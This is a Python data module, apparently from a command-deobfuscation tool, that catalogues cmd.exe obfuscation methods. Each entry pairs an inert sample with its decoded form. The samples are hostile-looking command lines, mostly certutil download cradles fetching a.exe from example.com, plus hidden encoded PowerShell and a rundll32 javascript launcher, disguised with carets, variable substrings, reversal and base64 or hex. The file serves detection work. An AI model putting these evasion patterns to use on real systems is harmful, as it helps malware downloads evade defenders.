"""The ways of hiding that the readers of cmd and of Windows programs undo, each with an inert example."""

from __future__ import annotations

from vedette.commands.base import Method
from vedette.schema.command import Language

_CMD = Language.CMD


METHODS: tuple[Method, ...] = (
    Method(
        "caret",
        "Carets between letters",
        _CMD,
        r"c^e^r^t^u^t^i^l -url^cache -f http://example.com/a.exe %TEMP%\a.exe",
        r"certutil -urlcache -f http://example.com/a.exe",
        "A caret before a character that is not special vanishes.",
    ),
    Method(
        "quote-splitting",
        "Quotes within a name or word",
        _CMD,
        r'c"er"tu"til" -"url"cache -f "ht"tp://example.com/a.exe a.exe',
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "delimiters",
        "Commas, semicolons and brackets around a command",
        _CMD,
        ",;,(,;certutil,-urlcache -f http://ex^ample.com/a.exe a.exe,;,)",
        "http://example.com/a.exe",
        "cmd takes comma, semicolon and equals sign for blanks before a command; brackets only group.",
    ),
    Method(
        "variable",
        "A command put together from variables",
        _CMD,
        "set a=cert&&set b=util&&call %a%%b% -urlcache -f http://example.com/a.exe a.exe",
        "certutil -urlcache -f http://example.com/a.exe",
        "``call`` reads the line again, so that variables set on it are known.",
    ),
    Method(
        "environment-substring",
        "Letters cut out of known variables",
        _CMD,
        "%COMSPEC:~-7,3% /c %ProgramFiles:~3,1%owershell -c echo http://example.com/a",
        "cmd /c Powershell",
        "The variables that every Windows has are known; those of a user or machine are not.",
    ),
    Method(
        "replace",
        "Replacement within a variable",
        _CMD,
        'set "x=cQQrtutil -urlcachQQ -f http://QQxamplQQ.com/a.QQxQQ a.QQxQQ"&&call %x:QQ=e%',
        "certutil -urlcache -f http://example.com/a.exe a.exe",
    ),
    Method(
        "delayed-expansion",
        "Delayed expansion",
        _CMD,
        'cmd /v:on /c "set x=certutil&&set y=http://example.com/a.exe&&!x! -urlcache -f !y! a.exe"',
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "for-loop",
        "A loop that puts a command together",
        _CMD,
        'cmd /v:on /c "for %i in (cer tut il) do set y=!y!%i&&if %i==il call %y% -f http://example.com/a"',
        "certutil -f http://example.com/a",
        "Loops over items, numbers (``/l``) and lines (``/f``) are run as long as they can be computed.",
    ),
    Method(
        "reverse",
        "A command written backwards",
        _CMD,
        'cmd /v /c "set x=moc.elpmaxe//:ptth lruc&&for /l %i in (22,-1,0) do set y=!y!!x:~%i,1!&&if %i==0 call %y%"',
        "curl http://example.com",
    ),
    Method(
        "index-pick",
        "Letters picked by number",
        _CMD,
        'cmd /v /c "set x=nets /ao&&for %i in (0 1 2 3 2 6 2 4 5 6 0 7 99) do set y=!y!!x:~%i,1!&&'
        'if %i==99 echo !y! http://example.com"',
        "nets",
    ),
    Method(
        "for-tokens",
        "A name cut out of what a command prints",
        _CMD,
        'for /f "delims=s\\ tokens=4" %a in (\'set^|findstr PSM\') do %a -c "echo http://example.com/a"',
        "PowerShell -c",
        "``set``, ``assoc`` and ``ftype`` print the same on every default Windows, as far as it is listed here.",
    ),
    Method(
        "argument",
        "Arguments of a subroutine",
        _CMD,
        "@echo off\ncall :go example.com certutil\nexit /b\n:go\n%2 -urlcache -f http://%1/a.exe a.exe\ngoto :eof\n",
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "arithmetic",
        "Numbers computed by set /a",
        _CMD,
        'cmd /v /c "set x=abchttp://example.com/a&&set /a n=1+4/2&&call echo %x:~!n!%"',
        "http://example.com/a",
    ),
    Method(
        "noise",
        "Variables that do not exist, strewn into a batch file",
        _CMD,
        "@echo off\nc%qqa%er%qqb%tu%qqc%til -url%qqd%cache -f http://exa%qqe%mple.com/a.exe a.exe\n",
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "line-continuation",
        "A word cut by carets at the ends of lines",
        _CMD,
        "cert^\nutil -urlcache -f http://exam^\nple.com/a.exe a.exe",
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "stdin",
        "A command piped into an interpreter",
        _CMD,
        "set x=certutil&&call echo %x% -urlcache -f http://example.com/a.exe a.exe|cmd",
        "certutil -urlcache -f http://example.com/a.exe",
    ),
    Method(
        "written-file",
        "A script written by echo and then run",
        _CMD,
        r"echo cert^util -f http://example.com/a.exe>%TEMP%\x.bat&call %TEMP%\x.bat",
        "certutil -f http://example.com/a.exe",
    ),
    Method(
        "base64",
        "A script decoded by certutil",
        _CMD,
        "echo ZWNobyBodHRwOi8vZXhhbXBsZS5jb20vYQ==>x.txt&&certutil -decode x.txt x.bat&&x.bat",
        "echo http://example.com/a",
    ),
    Method(
        "hex",
        "A script decoded from hex digits by certutil",
        _CMD,
        "echo 6563686f20687474703a2f2f6578616d706c652e636f6d2f61>x.txt&certutil -decodehex x.txt x.bat&x.bat",
        "echo http://example.com/a",
    ),
    Method(
        "utf-16-base64",
        "PowerShell's encoded command",
        _CMD,
        "powershell -nop -w hidden -e ZQBjAGgAbwAgAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AYQA=",
        "echo http://example.com/a",
        "Every beginning of ``-EncodedCommand`` is taken, with a hyphen, a slash or a dash.",
    ),
    Method(
        "percent-encoding",
        "Percent signs in a script URL",
        _CMD,
        "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";new%20ActiveXObject('WScript.Shell').Run('cmd /c "
        "echo http://example.com/a')",
        "new ActiveXObject",
    ),
)
"""One entry for every way of hiding that is undone."""
